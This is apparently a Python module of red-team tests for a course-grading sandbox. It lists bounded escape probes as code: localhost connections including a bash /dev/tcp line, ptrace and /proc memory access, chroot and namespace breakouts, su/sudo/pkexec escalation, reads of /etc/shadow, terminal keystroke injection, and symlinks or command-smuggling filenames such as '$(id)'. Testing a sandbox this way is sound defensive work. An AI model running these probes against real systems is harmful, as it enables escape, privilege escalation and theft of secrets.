"""A way out: to the network, other processes, the host, its files, or the next learner.

Each attack is bounded, so that it does no harm where nothing seals it: it kills only where its
processes are its own, mounts only in its own folder, and opens devices without writing to them.
"""

import os
from functools import partial
from pathlib import Path

from course.learners import ASSIGNMENT
from redteam.attack import Aim, Attack, Ground, code, grade_id, paper, rewrite

escape = partial(code, aim=Aim.ESCAPE)
linked = partial(paper, aim=Aim.ESCAPE)

#: Calls of the kernel by name; refused is what a seal says, anything else was let through.
CALLS = """
import ctypes, errno, platform
libc = ctypes.CDLL(None, use_errno=True)
NUMBERS = {
    "ptrace": (101, 117), "process_vm_readv": (310, 270), "process_vm_writev": (311, 271),
    "mount": (165, 40), "unshare": (272, 97), "setns": (308, 268), "chroot": (161, 51),
    "pivot_root": (155, 41), "memfd_create": (319, 279), "keyctl": (250, 219),
    "add_key": (248, 217), "bpf": (321, 280), "io_uring_setup": (425, 425),
    "userfaultfd": (323, 282), "perf_event_open": (298, 241), "pidfd_open": (434, 434),
    "pidfd_getfd": (438, 438), "open_by_handle_at": (304, 265), "fsopen": (430, 430),
    "open_tree": (428, 428), "clone3": (435, 435), "quotactl": (179, 60), "syslog": (103, 116),
    "init_module": (175, 105), "kexec_load": (246, 104), "acct": (163, 89), "swapon": (167, 224),
    "sethostname": (170, 161), "iopl": (172, 1_000), "personality": (135, 92),
    "shmget": (29, 194), "memfd_secret": (447, 447), "fanotify_init": (300, 262),
}
REFUSED = {"EPERM", "EACCES", "ENOSYS"}
def call(name, *arguments):
    ctypes.set_errno(0)
    number = NUMBERS[name][platform.machine() == "aarch64"]
    found = libc.syscall(number, *arguments)
    return found, errno.errorcode.get(ctypes.get_errno(), "") if found == -1 else ""
def is_let_through(name, *arguments):
    found, error = call(name, *arguments)
    print(name, found, error)
    return error not in REFUSED
"""

NETWORK = (
    escape(
        name="escape-tcp",
        claim="a server on this machine, and so any on the network, can be reached",
        source="""
import socket
for host in ("127.0.0.1", "::1", "localhost", "0.0.0.0"):
    try:
        with socket.create_connection((host, PORT), 3) as one:
            one.sendall(b"loot")
            broke(f"connected to {host}")
    except OSError as error:
        print(host, error)
""",
    ),
    escape(
        name="escape-tcp-by-program",
        claim="a program started by the notebook may use the network",
        source="""
import subprocess
for program in (f"exec 3<>/dev/tcp/127.0.0.1/{PORT} && echo reached",
                f"{sys.executable} -c 'import socket; "
                f"socket.create_connection((\\"127.0.0.1\\", {PORT}), 3); print(\\"reached\\")'"):
    done = subprocess.run(["bash", "-c", program], capture_output=True, text=True, check=False,
                          timeout=8)
    if "reached" in done.stdout:
        broke(done.stdout)
""",
    ),
    escape(
        name="escape-udp",
        claim="a datagram leaves, as a name server's would",
        source="""
import socket
for family, host in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::1")):
    try:
        with socket.socket(family, socket.SOCK_DGRAM) as one:
            one.sendto(b"loot", (host, PORT))
    except OSError as error:
        print(host, error)
""",
    ),
    escape(
        name="escape-raw-sockets",
        claim="raw, packet, netlink, vsock or Bluetooth sockets go round what is forbidden to TCP",
        source="""
import socket
kinds = {
    "raw": (socket.AF_INET, socket.SOCK_RAW, 1), "icmp": (socket.AF_INET, socket.SOCK_DGRAM, 1),
    "packet": (17, socket.SOCK_RAW, 0), "netlink": (16, socket.SOCK_RAW, 0),
    "vsock": (40, socket.SOCK_STREAM, 0), "bluetooth": (31, socket.SOCK_RAW, 1),
    "alg": (38, socket.SOCK_SEQPACKET, 0), "xdp": (44, socket.SOCK_RAW, 0),
    "inet6": (socket.AF_INET6, socket.SOCK_RAW, 58), "smc": (43, socket.SOCK_STREAM, 0),
}
for name, (family, kind, protocol) in kinds.items():
    try:
        socket.socket(family, kind, protocol).close()
        broke(f"a socket of kind {name}")
    except OSError as error:
        print(name, error)
""",
    ),
    escape(
        name="escape-unix-socket",
        claim="a service of this machine answers on its socket in the file system",
        source="""
import socket
for path in (SOCKET, "/var/run/docker.sock", "/run/dbus/system_bus_socket", "/run/systemd/notify"):
    with socket.socket(socket.AF_UNIX) as one:
        try:
            one.connect(path)
            broke(f"connected to {path}")
        except OSError as error:
            print(path, error)
""",
    ),
    escape(
        name="escape-abstract-socket",
        claim="a socket without a place in the file system can be reached whatever is mounted",
        source="""
import socket
with socket.socket(socket.AF_UNIX) as one:
    try:
        one.connect("\\0" + ABSTRACT)
        one.sendall(b"loot")
        broke("connected to an abstract socket")
    except OSError as error:
        print(error)
for line in read("/proc/net/unix").decode().splitlines():
    if ABSTRACT in line:
        broke("the sockets of the host are listed")
""",
    ),
)

PROCESSES = (
    escape(
        name="escape-ptrace",
        claim="the parent, or the grader, can be traced and made to run my code",
        source=CALLS
        + """
libc.ptrace.argtypes = (ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p)
for pid in {os.getppid(), DECOY} - {0}:
    for request in (0x4206, 16):  # PTRACE_SEIZE, PTRACE_ATTACH
        if libc.ptrace(request, pid, None, None) == 0:
            broke(f"traces {pid}")
            os.waitpid(pid, 0) if request == 16 else None
            libc.ptrace(17, pid, None, None)
            break
""",
    ),
    escape(
        name="escape-vm-read",
        claim="another process's memory can be read and written by process_vm_readv",
        source=CALLS
        + """
class Piece(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
room = ctypes.create_string_buffer(b"bait bait", 9)
here = Piece(ctypes.addressof(room), 8)
# A fork has the same layout, so what lies here lies there.
there = Piece(id(sys.modules), 8)
for pid in {os.getppid(), DECOY} - {0}:
    for name in ("process_vm_readv", "process_vm_writev"):
        if name.endswith("readv") or pid == DECOY:
            found, error = call(name, pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0)
            if found > 0 or error == "EFAULT":
                broke(f"{name} of {pid}")
""",
    ),
    escape(
        name="escape-proc-mem",
        claim="another process's memory can be opened in /proc, to be read or written",
        source="""
for pid in {os.getppid(), DECOY, 1} - {0, os.getpid()}:
    for mode in (os.O_RDWR, os.O_RDONLY):
        try:
            os.close(os.open(f"/proc/{pid}/mem", mode))
            broke(f"opened the memory of {pid}")
        except OSError as error:
            print(pid, error)
""",
    ),
    escape(
        name="escape-pidfd",
        claim="a descriptor of the parent's can be taken over through a pidfd",
        source=CALLS
        + """
for pid in {os.getppid(), DECOY} - {0}:
    handle, error = call("pidfd_open", pid, 0)
    if handle >= 0:
        for number in range(40):
            taken, error = call("pidfd_getfd", handle, number, 0)
            if taken >= 0:
                broke(f"took descriptor {number} of {pid}: {os.readlink(f'/proc/self/fd/{taken}')}")
""",
    ),
    escape(
        name="escape-kill-all",
        claim="every process that can be signalled ends, the grader among them",
        source="""
import signal
if is_host:
    for pid in (DECOY, GRADER):
        try:
            os.kill(pid, 0)
            broke(f"may signal {pid}")
        except OSError as error:
            print(pid, error)
    try:
        os.kill(DECOY, signal.SIGKILL)
    except OSError as error:
        print(error)
else:
    # Its own namespace, so that nobody else's process is in reach.
    os.kill(-1, signal.SIGKILL)
    print("still here")
""",
    ),
    escape(
        name="escape-kill-parent",
        claim="the parent ends, and the batch with it",
        source="""
import signal, time
parent = os.getppid()
for number in (signal.SIGTERM, signal.SIGINT, signal.SIGKILL, signal.SIGSTOP):
    # A parent that is the machine's own first process is not ours to try.
    if parent > 1 or not is_host:
        try:
            os.kill(parent, number)
        except OSError as error:
            print(error)
time.sleep(0.5)
if parent > 1 and os.getppid() != parent:
    broke("the parent is gone")
os.killpg(0, signal.SIGCONT)
""",
    ),
    escape(
        name="escape-priority",
        claim="the grader's own processes can be slowed down, or mine put before all",
        source="""
for pid in (DECOY, GRADER) if is_host else ():
    for change in (lambda: os.setpriority(os.PRIO_PROCESS, pid, os.getpriority(0, pid)),
                   lambda: os.sched_setaffinity(pid, os.sched_getaffinity(pid))):
        try:
            change()
            broke(f"may change {pid}")
        except OSError as error:
            print(error)
try:
    os.nice(-5)
    broke("is put before others")
except OSError as error:
    print(error)
import resource
for name in ("CPU", "NOFILE", "NPROC", "FSIZE", "AS"):
    kind = getattr(resource, "RLIMIT_" + name)
    _, hard = resource.getrlimit(kind)
    if hard != resource.RLIM_INFINITY:
        try:
            resource.setrlimit(kind, (hard + 1, hard + 1))
            broke(f"raised its limit {name}")
        except (OSError, ValueError) as error:
            print(name, error)
""",
    ),
    escape(
        name="escape-background",
        claim="a process of mine lives on and writes when nobody looks any more",
        source="""
import subprocess, time
program = (f"sleep 4; echo later > {CANARY}/later; echo later > {COURSE}/later; "
           f"echo later > later; exec -a {LEFT} sleep {SLEEP_S}")
for _ in range(3):
    subprocess.Popen(["bash", "-c", program], start_new_session=True)
subprocess.Popen(["setsid", "nohup", "sleep", str(SLEEP_S)])
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        with open("/proc/self/comm", "w") as name:
            name.write(LEFT)
        import signal
        for number in (1, 2, 3, 13, 15):
            signal.signal(number, signal.SIG_IGN)
        time.sleep(SLEEP_S)
    os._exit(0)
""",
    ),
)

PRIVILEGES = (
    escape(
        name="escape-mount",
        claim="a disk, or the host's own root, can be mounted over what I see",
        source=CALLS
        + """
os.makedirs("place", exist_ok=True)
here = os.path.abspath("place").encode()
size = b"size=64k"
if call("mount", b"tmpfs", here, b"tmpfs", 0, size)[0] == 0:
    broke("mounted a disk")
    libc.umount(here)
for name, arguments in {"fsopen": (b"tmpfs", 0), "open_tree": (-100, b"place", 1)}.items():
    found, error = call(name, *arguments)
    if found >= 0:
        broke(name)
""",
    ),
    escape(
        name="escape-user-namespace",
        claim="in a user namespace of my own I am root, and may mount and trace",
        source=CALLS
        + """
for name, flag in {"user": 0x10000000, "mount": 0x20000, "net": 0x40000000, "uts": 0x4000000,
                   "user and mount": 0x10020000, "time": 0x80, "cgroup": 0x2000000}.items():
    child = os.fork()
    if child == 0:
        found, error = call("unshare", flag)
        os._exit(1 if found == 0 else 0)
    if os.waitstatus_to_exitcode(os.waitpid(child, 0)[1]) == 1:
        broke(f"a namespace of its own: {name}")
if call("clone3", ctypes.create_string_buffer(b"\\0\\0\\0\\x10", 88), 88)[0] > 0:
    broke("clone3 with a user namespace")
""",
    ),
    escape(
        name="escape-setns",
        claim="the namespaces of the parent, or of process 1, can be entered",
        source=CALLS
        + """
for pid in {1, os.getppid(), DECOY}:
    for kind in ("mnt", "net", "pid", "user"):
        try:
            handle = os.open(f"/proc/{pid}/ns/{kind}", os.O_RDONLY)
        except OSError:
            continue
        child = os.fork()
        if child == 0:
            os._exit(call("setns", handle, 0)[0] == 0)
        if os.waitstatus_to_exitcode(os.waitpid(child, 0)[1]) == 1:
            broke(f"entered {kind} of {pid}")
""",
    ),
    escape(
        name="escape-chroot",
        claim="the classic break-out: chroot below, climb by an open descriptor, chroot again",
        source=CALLS
        + """
os.makedirs("jail", exist_ok=True)
child = os.fork()
if child == 0:
    top = os.open("/", os.O_RDONLY)
    if call("chroot", b"jail")[0] != 0:
        os._exit(0)
    os.fchdir(top)
    for _ in range(64):
        os.chdir("..")
    call("chroot", b".")
    os._exit(2 if os.path.exists(SECRET_FILE) else 1)
if status := os.waitstatus_to_exitcode(os.waitpid(child, 0)[1]):
    broke(f"chroot was allowed ({status})")
new, old = os.path.abspath("jail").encode(), os.path.abspath("jail").encode()
if is_let_through("pivot_root", new, old):
    broke("pivot_root was allowed")
""",
    ),
    escape(
        name="escape-root",
        claim="I can become root, by asking or by a program that is",
        source="""
import subprocess
for name in ("setuid", "seteuid", "setgid", "setegid"):
    child = os.fork()
    if child == 0:
        try:
            getattr(os, name)(0)
            os._exit(1)
        except OSError:
            os._exit(0)
    if os.waitstatus_to_exitcode(os.waitpid(child, 0)[1]) == 1:
        broke(name)
for words in (["su", "-c", "id -u"], ["sudo", "-n", "id", "-u"], ["pkexec", "id", "-u"],
              ["newgrp", "root"], ["unshare", "-r", "id", "-u"], ["passwd", "-S", "root"]):
    try:
        done = subprocess.run(words, stdin=subprocess.DEVNULL, capture_output=True, text=True,
                              check=False, timeout=5)
        print(words, done.returncode, done.stderr[:100])
        if done.stdout.strip() == "0":
            broke(" ".join(words))
    except (OSError, subprocess.SubprocessError) as error:
        print(words, error)
held = [line for line in read("/proc/self/status").decode().splitlines() if "CapEff" in line]
if int(held[0].split()[1], 16):
    broke(held[0])
if "NoNewPrivs:\\t1" not in read("/proc/self/status").decode():
    broke("may gain privileges")
""",
    ),
    escape(
        name="escape-devices",
        claim="memory, disks and the kernel's log can be opened, or their devices made anew",
        source="""
import stat
names = ["mem", "kmem", "port", "sda", "vda", "nvme0n1", "loop0", "loop-control", "kmsg", "fuse",
         "kvm", "vsock", "userfaultfd", "tty1", "ttyS0", "console",
         "input/event0", "net/tun", "autofs"]
for name in names:
    for mode in (os.O_RDONLY, os.O_WRONLY):
        try:
            os.close(os.open("/dev/" + name, mode | os.O_NONBLOCK | os.O_NOCTTY))
            broke(f"opened /dev/{name}")
        except OSError as error:
            print(name, error)
for kind, number in ((stat.S_IFBLK, (254, 0)), (stat.S_IFBLK, (8, 0)), (stat.S_IFCHR, (1, 1))):
    try:
        os.mknod("device", kind | 0o600, os.makedev(*number))
    except OSError as error:
        print(error)
    else:
        broke(f"made a device {number}")
        os.unlink("device")
""",
    ),
    escape(
        name="escape-terminal",
        claim="keys can be typed into the instructor's terminal",
        source="""
import fcntl
for place in ("/dev/tty", "/proc/self/fd/0", "/proc/self/fd/1", "/proc/self/fd/2", "/dev/console"):
    for request in (0x5412, 0x541C):  # TIOCSTI, TIOCLINUX
        try:
            handle = os.open(place, os.O_RDWR | os.O_NOCTTY | os.O_NONBLOCK)
        except OSError as error:
            print(place, error)
            break
        try:
            fcntl.ioctl(handle, request, b" ")
            broke(f"typed into {place}")
        except OSError as error:
            print(place, error)
        os.close(handle)
try:
    os.tcgetpgrp(0)
    broke("has a terminal")
except OSError:
    pass
""",
    ),
    escape(
        name="escape-kernel-doors",
        claim="the kernel's newer doors (bpf, io_uring, userfaultfd, perf) stand open",
        source=CALLS
        + """
room = ctypes.create_string_buffer(256)
if is_let_through("bpf", 0, room, 72):
    broke("bpf")
if is_let_through("io_uring_setup", 4, ctypes.create_string_buffer(120)):
    broke("io_uring")
if call("userfaultfd", 1)[0] >= 0:
    broke("userfaultfd")
software = ctypes.create_string_buffer(b"\\x01\\0\\0\\0\\x40\\0\\0\\0", 128)
if call("perf_event_open", software, 0, -1, -1, 0)[0] >= 0:
    broke("perf_event_open")
if is_let_through("fanotify_init", 0, 0):
    broke("fanotify")
for name, arguments in {
    "init_module": (None, 0, b""), "kexec_load": (0, 0, None, 0), "acct": (b"/nothing/here",),
    "swapon": (b"/nothing/here", 0), "sethostname": (b"x", -1), "open_by_handle_at": (-1, room, 0),
}.items():
    if is_let_through(name, *arguments):
        broke(name)
if call("syslog", 3, room, 100)[0] > 0:
    broke("the kernel's log")
""",
    ),
    escape(
        name="escape-keyring",
        claim="the kernel's keyrings hold the grader's keys, or a note for the next learner",
        source=CALLS
        + """
for ring in (-3, -4, -5):
    found, error = call("keyctl", 0, ring, 0)
    print(ring, found, error)
    if found > 0:
        broke(f"keyring {ring}")
if call("add_key", b"user", MARK.encode(), b"note", 4, -4)[0] > 0:
    broke("left a note in a keyring")
for name, arguments in {"shmget": (0x5245, 4096, 0o1666)}.items():
    found, error = call(name, *arguments)
    if found >= 0 and is_host:
        broke("left a note in shared memory")
        libc.shmctl(found, 0, None)
""",
    ),
    escape(
        name="escape-memfd",
        claim="a program that lies in memory alone runs without my limits",
        source=CALLS
        + """
import shutil, subprocess
handle, error = call("memfd_create", MARK.encode(), 0)
print(handle, error)
copy = "cat-of-mine"
shutil.copy(shutil.which("cat"), copy)
os.chmod(copy, 0o6755)
places = [os.path.abspath(copy)]
if handle >= 0:
    os.write(handle, open(copy, "rb").read())
    places.append(f"/proc/self/fd/{handle}")
for place in places:
    try:
        done = subprocess.run([place, SECRET_FILE, "/proc/1/environ", "/etc/shadow"],
                              capture_output=True, check=False, timeout=5, close_fds=False)
        print(done.stderr)
        if done.stdout:
            loot(done.stdout)
    except OSError as error:
        print(error)
""",
    ),
    escape(
        name="escape-other-numbering",
        claim="the calls of 32 bits, or of x32, are not filtered",
        source=CALLS
        + """
if platform.machine() == "x86_64":
    import mmap
    x32 = libc.syscall(0x40000000 + 272, 0x10000000)
    if x32 == 0:
        broke("unshare by x32")
    # mov eax, 20 (getpid of 32 bits); int 0x80; ret
    room = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    room.write(b"\\xb8\\x14\\0\\0\\0\\xcd\\x80\\xc3")
    child = os.fork()
    if child == 0:
        own = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(room)))()
        os._exit(1 if own == os.getpid() else 0)
    if os.waitpid(child, 0)[1] == 1 << 8:
        broke("calls of 32 bits are let through")
""",
    ),
)

HOST = (
    escape(
        name="escape-write-everywhere",
        claim="somewhere on the host a file can be left",
        source="""
for place in PLACES:
    for name in (MARK, "." + MARK, MARK + ".pth"):
        try:
            with open(os.path.join(place, name), "w") as file:
                file.write("# left by a hand-in\\n")
        except OSError as error:
            print(place, error.strerror)
""",
    ),
    escape(
        name="escape-canary",
        claim="a folder that everybody may write to is open to me too",
        source="""
import subprocess
from pathlib import Path
for change in (
    lambda: Path(CANARY, "canary.txt").write_text("sung"),
    lambda: Path(CANARY, "new").touch(),
    lambda: Path(CANARY, "canary.txt").rename(Path(CANARY, "gone")),
    lambda: os.chmod(CANARY, 0o700),
    lambda: os.symlink("/", CANARY + "/link"),
    lambda: os.utime(CANARY, (0, 0)),
    lambda: os.truncate(CANARY + "/canary.txt", 0),
):
    try:
        change()
        broke("the canary's folder was changed")
    except OSError as error:
        print(error)
subprocess.run(["sh", "-c", f"echo sung >> {CANARY}/canary.txt"], check=False)
""",
    ),
    escape(
        name="escape-poison-libraries",
        claim="the installed libraries, and so the next learner's run, can be changed",
        source="""
import casebook, numpy, IPython
for module in (casebook, numpy, IPython, os):
    for mode in (os.O_WRONLY, os.O_RDWR | os.O_APPEND):
        try:
            os.close(os.open(module.__file__, mode))
            broke(f"may write to {module.__file__}")
        except OSError as error:
            print(error.strerror)
    folder = os.path.dirname(module.__file__)
    mode = os.stat(folder).st_mode & 0o7777
    for change in (lambda: os.utime(folder), lambda: os.chmod(folder, mode)):
        try:
            change()
            broke(f"may change {folder}")
        except OSError as error:
            print(error.strerror)
try:
    os.close(os.open(sys.executable, os.O_WRONLY))
    broke("may write to the interpreter")
except OSError as error:
    print(error.strerror)
""",
    ),
    escape(
        name="escape-settings",
        claim="a setting of the host's or the user's runs my program later",
        source="""
home = os.path.expanduser("~root") if is_host else "/root"
for place in (home + "/.bashrc", home + "/.profile", home + "/.ssh/authorized_keys",
              "/etc/passwd", "/etc/shadow", "/etc/crontab", "/etc/ld.so.preload", "/etc/hosts",
              "/etc/environment", "/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger",
              "/proc/sys/kernel/modprobe", "/sys/kernel/uevent_helper", "/sys/power/state",
              "/proc/sys/vm/drop_caches", "/proc/1/oom_score_adj"):
    try:
        os.close(os.open(place, os.O_WRONLY | os.O_APPEND))
        broke(f"may write to {place}")
    except OSError as error:
        print(place, error.strerror)
if b"$" in read("/etc/shadow"):
    broke("read the passwords")
""",
    ),
    escape(
        name="escape-look-around",
        claim="the host's files, disks and processes can at least be seen",
        source="""
for place in (SECRET_FILE, COURSE, CANARY, SOCKET, COURSE + "/submitted/" + NEIGHBOUR,
              "/root/.ssh", "/var/log", "/var/lib", "/boot", "/etc/hostname"):
    if os.path.exists(place):
        broke(f"sees {place}")
for pid in filter(str.isdigit, os.listdir("/proc")):
    command = read(f"/proc/{pid}/cmdline")
    if b"pytest" in command or b"decoy" in command:
        broke(f"sees the process {command[:60]}")
if CANARY.encode() in read("/proc/self/mountinfo") + read("/proc/mounts"):
    broke("the host's mounts are listed")
""",
    ),
    # These two belong together, and are graded in this order.
    escape(
        name="escape-leave-1",
        claim="what I leave in the scratch folder is there for the next learner",
        source="""
import tempfile
for place in (".", "..", "/tmp", "/var/tmp", "/dev/shm", tempfile.gettempdir(),
              os.path.expanduser("~"), os.environ.get("MPLCONFIGDIR", "."), "/dev/mqueue",
              os.environ.get("IPYTHONDIR", "."), "/run/user/1000", "/proc/self"):
    try:
        os.makedirs(place, exist_ok=True)
        with open(os.path.join(place, MARK + "-note"), "w") as file:
            file.write("the answer is 7")
    except OSError as error:
        print(place, error)
import casebook, builtins, json
casebook.redteam_note = builtins.redteam_note = json.redteam_note = 7
""",
    ),
    escape(
        name="escape-leave-2",
        claim="what the learner before me left is still there",
        source="""
import builtins, casebook, json, tempfile
places = {".", "..", "/tmp", "/var/tmp", "/dev/shm", tempfile.gettempdir(), "/dev/mqueue",
          os.path.expanduser("~"), os.environ.get("MPLCONFIGDIR", "."), "/run/user/1000"}
for place in places:
    if os.path.exists(os.path.join(place, MARK + "-note")):
        broke(f"a note lies in {place}")
for module in (builtins, casebook, json):
    if hasattr(module, "redteam_note"):
        broke(f"a note is kept in {module.__name__}")
print([(place, os.listdir(place)) for place in places if os.path.isdir(place)])
""",
    ),
)


# Links and odd files among what is handed in

READ_IT = """
for name in sorted(os.listdir(".")):
    for inside in sorted(os.listdir(name))[:50] if os.path.isdir(name) else [""]:
        place = os.path.join(name, inside) if inside else name
        loot((place, read(place, 3000)))
"""


def _reads_all(ground: Ground, folder: Path) -> None:
    source = ground.words() + READ_IT
    rewrite(
        folder,
        lambda cells: [
            cell | ({"source": source} if grade_id(cell) == "plan" else {}) for cell in cells
        ],
    )


def link_to_secrets(folder: Path, ground: Ground) -> None:
    _reads_all(ground, folder)
    (folder / "notes.txt").symlink_to(ground.secret_file)
    (folder / "keys").symlink_to(ground.secret_file.parent)
    (folder / "relative.txt").symlink_to(f"../../../keys/{ground.secret_file.name}")
    (folder / "process").symlink_to(f"/proc/{ground.decoy}/environ")
    (folder / "root").symlink_to("/")
    (folder / "loop").symlink_to("loop")
    (folder / "neighbour").symlink_to(ground.course.submitted(ASSIGNMENT, ground.neighbour))


def link_for_kit_files(folder: Path, ground: Ground) -> None:
    """Put links where the grader writes or reads files of its own."""
    _reads_all(ground, folder)
    for name in ("assignment.json", "cases.zip", "learner.json"):
        (folder / name).unlink()
        (folder / name).symlink_to(ground.canary / "canary.txt")
    (folder / "timestamp.txt").symlink_to(ground.secret_file)
    (folder / "answers").mkdir()
    (folder / "answers" / "20260101T000000Z-aaaaaaaaaaaa.jsonl").symlink_to(ground.secret_file)


def link_for_notebook(folder: Path, ground: Ground) -> None:
    path = folder / f"{ASSIGNMENT}.ipynb"
    path.unlink()
    path.symlink_to(ground.course.submitted(ASSIGNMENT, ground.neighbour) / path.name)


def link_for_answers(folder: Path, ground: Ground) -> None:
    (folder / "answers").symlink_to(
        ground.course.submitted(ASSIGNMENT, ground.neighbour) / "answers"
    )


def hard_link(folder: Path, ground: Ground) -> None:
    """Stands for an archive with hard links in it, unpacked on the grader's machine."""
    _reads_all(ground, folder)
    os.link(ground.secret_file, folder / "notes.txt")


def fifos(folder: Path, ground: Ground) -> None:
    _reads_all(ground, folder)
    (folder / "learner.json").unlink()
    (folder / "answers").mkdir()
    for name in (
        *("learner.json", "timestamp.txt", "notes.txt", "data.csv"),
        "answers/20260101T000000Z-aaaaaaaaaaaa.jsonl",
    ):
        os.mkfifo(folder / name)


def fifo_for_notebook(folder: Path, ground: Ground) -> None:
    path = folder / f"{ASSIGNMENT}.ipynb"
    path.unlink()
    os.mkfifo(path)


def devices(folder: Path, ground: Ground) -> None:
    """Hand in a device, where the test may make one: endless zeros, and a socket."""
    import socket
    import stat

    _reads_all(ground, folder)
    try:
        os.mknod(folder / "zeros.csv", stat.S_IFCHR | 0o666, os.makedev(1, 5))
        os.mknod(folder / "timestamp.txt", stat.S_IFCHR | 0o666, os.makedev(1, 5))
    except PermissionError:
        (folder / "zeros.csv").symlink_to("/dev/zero")
    with socket.socket(socket.AF_UNIX) as one:
        before = Path.cwd()
        os.chdir(folder)  # a socket's address is short
        try:
            one.bind("door")
        finally:
            os.chdir(before)


def climbing_names(folder: Path, ground: Ground) -> None:
    """Give files names that climb, that are options, and that a shell would obey."""
    for name in (
        *("...", "..\\..\\..\\keys\\course.secret", "..%2f..%2fkeys", "-rf", "--help", "~", "*"),
        *("$(id)", "`id`", "; id", "| id", "a b", "line\nbreak", "%s%n", "CON", "con.ipynb "),
        *("{course}", "{{ 7 * 7 }}", ".nbgrader.log", ".staging-", "answers.jsonl"),
    ):
        (folder / name).write_text("# left by a hand-in\n")


LINKS: tuple[Attack, ...] = (
    linked(
        name="escape-links",
        claim="links that I hand in are followed, to the keys or to process memory",
        spoil=link_to_secrets,
    ),
    linked(
        name="escape-linked-kit-files",
        claim="where the grader writes its own files my links take them elsewhere",
        spoil=link_for_kit_files,
    ),
    linked(
        name="escape-linked-notebook",
        claim="a link to another's notebook is graded as mine",
        spoil=link_for_notebook,
    ),
    linked(
        name="escape-linked-answers",
        claim="a link to another's journal is graded as mine",
        spoil=link_for_answers,
    ),
    linked(
        name="escape-hard-link",
        claim="a hard link to the keys is a file like any other",
        spoil=hard_link,
    ),
    linked(
        name="escape-fifos",
        claim="whoever reads my files waits for ever",
        spoil=fifos,
    ),
    linked(
        name="escape-fifo-notebook",
        claim="whoever reads my notebook waits for ever",
        spoil=fifo_for_notebook,
    ),
    linked(
        name="escape-devices-handed-in",
        claim="whoever copies my files reads zeros without end",
        spoil=devices,
    ),
    linked(
        name="escape-climbing-names",
        claim="a file's name leads out of the folder, or is taken for an order",
        spoil=climbing_names,
    ),
)


ATTACKS = (*NETWORK, *PROCESSES, *PRIVILEGES, *HOST, *LINKS)
